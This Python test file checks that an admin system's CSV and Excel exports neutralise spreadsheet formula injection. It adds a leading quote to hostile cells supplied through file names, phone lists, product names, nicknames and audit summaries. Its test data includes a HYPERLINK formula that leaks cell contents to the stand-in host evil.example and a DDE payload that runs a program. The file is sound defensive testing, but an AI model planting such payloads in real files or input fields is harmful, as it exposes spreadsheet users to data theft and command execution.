"""Every file a person downloads goes through ``gc_admin.core.exports``: a cell that a spreadsheet would run
as a formula (``= + - @``, tab, CR) comes out as text with a leading ``'``; numbers stay numbers; Excel
exports have Chinese headers. Each export is fed hostile strings where a person or a partner can put
them (a file name, a phone list's junk row, product names, refund reasons, audit summaries, nicknames)
and read back the way a spreadsheet would: CSV with the csv module, Excel with polars/fastexcel.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import polars as pl
import pytest

from gc_admin.audit import service as audit
from gc_admin.audit.service import Actor
from gc_admin.core import exports
from gc_admin.core.clock import utcnow
from gc_admin.coupons import service as coupons
from gc_admin.coupons.issuance import service as issuance_service
from gc_admin.db import session_scope
from gc_admin.orders import service as orders
from gc_admin.payments import ledger, reconcile
from gc_admin.payments.state import _mismatch_csv
from gc_admin.users import service as users
from gc_admin.users.models import MpUser
from tests.support import SETUP
from tests.unit.orders.support import insert_order

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此领取")'
DDE = "=cmd|' /C calc'!A0"
HOSTILE = [LINK, DDE, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to read UTF-8 Chinese
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def read_xlsx(data: bytes) -> pl.DataFrame:
    return pl.read_excel(io.BytesIO(data))  # fastexcel (calamine), as the importers read Excel


def cells(frame: pl.DataFrame) -> list[str]:
    return [v for c in frame.columns if frame[c].dtype == pl.String for v in frame[c].to_list() if v is not None]


def assert_no_formula(texts: list[str]) -> None:
    risky = [t for t in texts if t.startswith(exports.FORMULA_START) and not exports._NUMBER.match(t)]
    assert not risky, risky


# --- the module ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", HOSTILE)
def test_risky_text_gets_a_leading_quote(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["正常文本", "a=b", "", " =1", "'=already", "-12", "-¥1,234.50", "+86", "-0.5"])
def test_harmless_text_and_plain_numbers_are_left_alone(value):
    assert exports.neutralise(value) == value


@pytest.mark.parametrize("value", [-5, 0, 12.5, None, True])
def test_non_text_values_are_untouched(value):
    assert exports.neutralise(value) is value


def test_csv_bytes_neutralises_every_cell_and_keeps_numbers():
    rows = read_csv(exports.csv_bytes([["名称", "金额"], *[[h, -500] for h in HOSTILE]]))
    assert rows[0] == ["名称", "金额"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"-500"}  # a number, written as a number


def test_xlsx_bytes_neutralises_strings_keeps_ints_and_chinese_headers():
    frame = pl.DataFrame({"名称": HOSTILE + ["http://evil.example/x", "0012"],
                          "金额（分）": pl.Series([-500] * (len(HOSTILE) + 2), dtype=pl.Int64)})
    back = read_xlsx(exports.xlsx_bytes(frame, sheet="测试"))
    assert back.columns == ["名称", "金额（分）"]
    assert back["名称"].to_list() == ["'" + h for h in HOSTILE] + ["http://evil.example/x", "0012"]
    assert back["金额（分）"].dtype == pl.Int64 and set(back["金额（分）"].to_list()) == {-500}


def test_xlsx_cells_are_written_as_text_not_formulas():
    import zipfile

    data = exports.xlsx_bytes(pl.DataFrame({"名称": [LINK]}))
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no formula cell anywhere
    strings = zipfile.ZipFile(io.BytesIO(data)).read("xl/sharedStrings.xml").decode()
    assert "'=HYPERLINK" in strings


def test_export_filenames_carry_the_list_name_and_local_time():
    now = dt.datetime(2026, 11, 22, 6, 5, tzinfo=dt.timezone.utc)
    assert exports.filename("订单", now=now) == "订单-20261122-1405.xlsx"


# --- each export ----------------------------------------------------------------------------------------

def test_import_report_csv_keeps_a_hostile_file_name_as_text(db):
    with session_scope() as s:
        coupons.create_product(s, actor=SETUP, code="pa", name="alpha", kind="redemption_code", face_fen=5000,
                               cost_fen=4000, jump_app_id="wx1234567890abcdef", jump_path="p")
        report = coupons.import_codes(s, actor=SETUP, product_code="pa", filename=f"{LINK}.csv",
                                      data=f"code,expires_at\nAAAA0001ZZ,{utcnow().date() + dt.timedelta(days=90)}\n"
                                           f",{utcnow().date()}\n".encode())
    rows = read_csv(coupons.import_report_csv(report))
    assert ["文件", "'" + LINK + ".csv"] in rows
    assert ["新增券码", "1"] in rows  # numbers stay numbers
    assert_no_formula([c for r in rows for c in r])


def test_issuance_result_csv_keeps_junk_phone_rows_as_text(db):
    with session_scope() as s:
        coupons.create_product(s, actor=SETUP, code="wa", name="wash", kind="cashback", face_fen=2000,
                               category="car_wash")
        result = coupons.issue_batch(s, actor=SETUP, source="staff", batch_id="B1", product_code="wa",
                                     phones=["13800000001", LINK, "@SUM(1)"])
    rows = read_csv(issuance_service.issuance_result_csv(result))
    assert rows[3][0] == "2" and rows[3][2] == "手机号无效"
    assert rows[3][1].startswith("'=HYPERLINK(")  # as stored (the row keeps the first characters)
    assert rows[4][1] == "'@SUM(1)"
    assert_no_formula([c for r in rows for c in r])


def test_reconciliation_mismatch_csv_keeps_bill_keys_as_text():
    result = reconcile.ReconcileResult(
        run_id=1, bill_date=dt.date(2026, 11, 21), bill_rows=1, ledger_rows=0, matched=0, bill_net_fen=100,
        ledger_net_fen=0, created_at=utcnow(),
        mismatches=[reconcile.Mismatch("missing_in_ledger", "payment", DDE, 100, None, "@WX4200")])
    rows = read_csv(_mismatch_csv(result))
    assert rows[1][2] == "'" + DDE and rows[1][5] == "'@WX4200" and rows[1][3] == "100"


def test_ledger_export_keeps_a_hostile_note_as_text(db):
    with session_scope() as s:
        ledger.add_ledger(s, kind="points", amount_fen=-300, ref="r1", provider="internal", note=LINK)
        data = ledger.ledger_xlsx(s)
    frame = read_xlsx(data)
    assert frame["备注"].to_list() == ["'" + LINK]
    assert frame["金额（分）"].to_list() == [-300] and frame["金额"].to_list() == ["-¥3.00"]


def test_orders_export_keeps_hostile_product_names_as_text(db):
    with session_scope() as s:
        u = MpUser(phone="13812345678", created_at=utcnow())
        s.add(u)
        s.flush()
        insert_order(s, user_id=u.id, no="GC0001", name=LINK, payable=1990)
        insert_order(s, user_id=u.id, no="GC0002", name="-2+3", payable=500)
        frame = orders.orders_frame(s)
    back = read_xlsx(exports.xlsx_bytes(frame))
    assert back.columns[:5] == ["订单号", "类型", "状态", "用户手机号", "商品"]
    assert sorted(back["商品"].to_list()) == sorted(["'" + LINK + "×1", "'-2+3×1"])
    assert set(back["用户手机号"].to_list()) == {"138****5678"}
    assert back["应付（分）"].dtype == pl.Int64
    assert_no_formula(cells(back))


def test_users_export_keeps_hostile_nicknames_as_text(db):
    with session_scope() as s:
        s.add(MpUser(phone="13812345678", nickname=DDE, city="@SUM(1)", created_at=utcnow()))
        frame = users.users_frame(s)
    back = read_xlsx(exports.xlsx_bytes(frame))
    assert back.row(0, named=True) | {"注册时间": ""} == {
        "用户ID": 1, "手机号": "138****5678", "微信": "未授权", "昵称": "'" + DDE, "城市": "'@SUM(1)",
        "注册时间": "", "最近登录": None}


def test_stock_codes_export_keeps_hostile_product_and_batch_names_as_text(db):
    with session_scope() as s:
        coupons.create_product(s, actor=SETUP, code="pa", name="+淘票票", kind="redemption_code", face_fen=5000,
                               cost_fen=4000, jump_app_id="wx1234567890abcdef", jump_path="p")
        coupons.import_codes(s, actor=SETUP, product_code="pa", filename="a.csv", batch_ref="-2+3",
                             data=f"code,expires_at\nAAAA0001ZZXX,{utcnow().date() + dt.timedelta(days=90)}\n".encode())
        frame = coupons.stock_codes_frame(s)
    back = read_xlsx(exports.xlsx_bytes(frame))
    row = back.row(0, named=True)
    assert row["券种"] == "'+淘票票" and row["批次号"] == "'-2+3"
    assert row["券码（部分隐藏）"] == "AAAA****ZZXX"
    assert "AAAA0001ZZXX" not in str(back.to_dicts())


def test_audit_export_keeps_hostile_summaries_and_names_as_text(db):
    with session_scope() as s:
        audit.record(s, actor=Actor("staff", "1", "@evil"), action="order.accept", target_type="service_order",
                     target_id=7, summary=LINK)
        frame = audit.audit_frame(s)
    back = read_xlsx(exports.xlsx_bytes(frame))
    row = back.row(0, named=True)
    assert (row["操作人"], row["说明"], row["操作"], row["对象"]) == ("'@evil", "'" + LINK, "接单", "订单 #7")
    assert_no_formula(cells(back))


def test_issuance_batches_export_keeps_hostile_names_as_text(db):
    with session_scope() as s:
        coupons.create_product(s, actor=SETUP, code="wa", name="=洗车", kind="cashback", face_fen=2000,
                               category="car_wash")
        coupons.issue_batch(s, actor=Actor("staff", "1", "-陈"), source="staff", batch_id="B1", product_code="wa",
                            phones=["13800000001"])
        frame = coupons.issuances_frame(s)
    row = read_xlsx(exports.xlsx_bytes(frame)).row(0, named=True)
    assert (row["券种"], row["操作人"], row["批次号"], row["成功行数"]) == ("'=洗车", "'-陈", "B1", 1)
